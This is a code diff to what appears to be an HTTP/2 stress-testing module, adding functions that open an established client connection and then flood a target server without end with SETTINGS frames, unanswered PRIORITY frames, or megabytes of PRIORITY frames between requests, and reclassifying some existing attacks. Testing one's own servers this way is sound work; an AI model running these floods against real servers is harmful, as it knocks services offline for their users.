@@ -4,7 +4,7 @@ import contextlib
 import select
 import struct
 
-from attacks.catalogue import attack, hold
+from attacks.catalogue import APART, attack, hold
 
 DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS = 1, 4
@@ -93,6 +93,47 @@ def window_flood(target, told, over):
     flood(target, told, over, "updates", data, 200)
 
 
+def known(target):
+    """A connection whose client is known: it has made a call, which was answered."""
+    peer = Http2(target, reads=False)
+    peer.send(peer.headers() + frame(DATA, END_STREAM, 1, bytes(5)))
+    while bytes([HEADERS, END_HEADERS | END_STREAM]) not in peer.socket.recv(1 << 16):  # its trailers
+        continue
+    peer.reads = True
+    return peer
+
+
+@attack(APART)
+def settings_of_a_client(target, told, over):
+    """SETTINGS without end by a client that has made a call."""
+    with known(target) as peer:
+        while not over.is_set():
+            peer.send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 200)
+            told["settings"] += 200
+
+
+@attack(APART)
+def priorities_of_a_client(target, told, over):
+    """PRIORITYs, which nobody answers, without end by a client that has made a call."""
+    with known(target) as peer:
+        while not over.is_set():
+            peer.send(frame(PRIORITY, 0, 9, struct.pack(">IB", 0, 1)) * 200)
+            told["priorities"] += 200
+
+
+@attack(APART)
+def noise_between_calls(target, told, over):
+    """Calls that are answered, with megabytes of PRIORITYs before each."""
+    with known(target) as peer:
+        while not over.is_set():
+            for _ in range(1000):
+                peer.send(frame(PRIORITY, 0, 9, struct.pack(">IB", 0, 1)) * 200)
+                told["priorities"] += 200
+            stream = peer.next
+            peer.send(peer.headers() + frame(DATA, END_STREAM, stream, bytes(5)))
+            told["calls"] += 1
+
+
 @attack("http2")
 def window_overflow(target, told, over):
     """Windows above what there can be."""
@@ -135,7 +176,7 @@ def headers_without_end(target, told, over):
     hold(peers, told, over)
 
 
-@attack("http2")
+@attack(APART)
 def huge_headers(target, told, over):
     """Calls with a megabyte of headers."""
     with Http2(target) as peer:
@@ -180,7 +221,7 @@ def data_past_the_end(target, told, over):
             told["calls"] += 1
 
 
-@attack("http2")
+@attack(APART)
 def empty_data(target, told, over):
     """DATA without data, for a message that never begins."""
     with Http2(target) as peer:
